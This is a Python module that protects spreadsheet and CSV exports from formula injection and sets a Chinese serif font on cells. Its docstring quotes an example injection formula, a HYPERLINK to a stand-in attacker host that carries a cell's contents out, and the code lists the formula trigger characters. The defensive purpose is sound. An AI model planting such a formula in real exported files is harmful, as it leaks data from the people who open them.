"""Cells of every spreadsheet and CSV file the service writes: never a formula, always a CJK font.

A title such as ``=HYPERLINK("http://attacker.example/?"&C3,"点击查看")`` is data, not a formula,
in the list a bureau prints and stamps (OWASP "CSV injection"). XLSX cells holding text are written
as string cells (openpyxl would otherwise write a formula for any text starting with ``=``); CSV
cells starting with ``= + - @``, a tab or a carriage return get a leading ``'`` and every text cell
is quoted. The data stored stays as entered; only the files are neutralized.
"""

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

# The serif face of Chinese official documents on the machines that open the files (Windows and
# WPS name it 宋体; LibreOffice substitutes Noto Serif CJK / AR PL UMing). GB2312 charset.
CJK_FONT_NAME = "宋体"
CJK_CHARSET = 134
_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def csv_safe(value: Any) -> Any:
    """A CSV cell that no spreadsheet evaluates: text starting with a formula trigger gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(_TRIGGERS):
        return "'" + value
    return value


def write_csv(headers: Sequence[str], rows: Iterable[Sequence[Any]], bom: bool = True) -> bytes:
    """UTF-8 CSV (with a BOM: Excel reads it as UTF-8), every text cell quoted and neutralized."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n", quoting=csv.QUOTE_NONNUMERIC)
    writer.writerow([csv_safe(h) for h in headers])
    for row in rows:
        writer.writerow(["" if v is None else csv_safe(v) for v in row])
    return (("\ufeff" if bom else "") + out.getvalue()).encode("utf-8")


def cjk_font(bold: bool = False, size: float = 11, color: str | None = None) -> Any:
    from openpyxl.styles import Font

    return Font(name=CJK_FONT_NAME, charset=CJK_CHARSET, bold=bold, size=size, color=color)


def finish_sheet(sheet: Any) -> None:
    """Every cell written: text as a string cell (never a formula), in the CJK font (keeping bold and size)."""
    for row in sheet.iter_rows():
        for cell in row:
            if cell.value is None:
                continue
            if cell.data_type == "f":  # openpyxl's guess for text starting with "="
                cell.data_type = "s"
            font = cell.font
            if font is None or font.name != CJK_FONT_NAME:
                cell.font = cjk_font(
                    bold=bool(font and font.b),
                    size=(font.sz if font and font.sz else 11),
                    color=font.color if font else None,
                )


def finish_workbook(workbook: Any) -> None:
    for sheet in workbook.worksheets:
        finish_sheet(sheet)
